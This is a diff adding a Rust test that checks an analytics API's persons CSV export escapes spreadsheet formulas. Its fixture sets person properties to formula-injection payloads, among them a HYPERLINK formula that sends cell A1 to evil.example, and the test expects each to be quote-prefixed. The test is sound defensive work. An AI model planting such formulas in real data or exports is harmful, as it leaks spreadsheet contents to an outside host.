@@ -1166,3 +1166,60 @@ async fn deletion_task_leaves_no_byte_of_the_person() {
     let kept = api.hogql("SELECT count() FROM events", json!({})).await;
     assert_eq!(kept, vec![json!([250])]);
 }
+
+async fn mallory_and_bob(api: &Api<'_>) {
+    api.capture(json!([
+        ev(
+            "$identify",
+            "mallory",
+            "2024-05-01T10:00:00Z",
+            json!({"$set": {
+                "name": "=HYPERLINK(\"http://evil.example/?\"&A1)",
+                "plus": "+1+cmd",
+                "at": "@SUM(A1:A2)",
+                "neg": -5,
+            }})
+        ),
+        ev(
+            "$identify",
+            "bob",
+            "2024-05-01T10:00:01Z",
+            json!({"$set": {"name": "Bob"}})
+        ),
+    ]))
+    .await;
+}
+
+/// Public capture writes person properties: an export must not hand a spreadsheet a
+/// formula.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn persons_csv_escapes_formulas() {
+    let srv = Server::start(&[]);
+    let api = Api::new(&srv);
+    mallory_and_bob(&api).await;
+    let (s, csv) = api
+        .send(
+            Method::GET,
+            "/api/projects/1/persons/?format=csv&distinct_id=mallory",
+            None,
+        )
+        .await;
+    assert_eq!(s, 200, "{csv}");
+    let mut lines = csv.lines();
+    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
+    let row = lines.next().unwrap();
+    let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
+    let plain: Vec<&str> = row.split(',').collect();
+    assert_eq!(
+        plain[col("properties.name")],
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"",
+        "{row}"
+    );
+    assert_eq!(plain[col("properties.at")], "'@SUM(A1:A2)");
+    assert_eq!(
+        plain[col("properties.neg")],
+        "-5",
+        "numbers keep their sign"
+    );
+    assert_eq!(plain[col("properties.plus")], "'+1+cmd");
+}
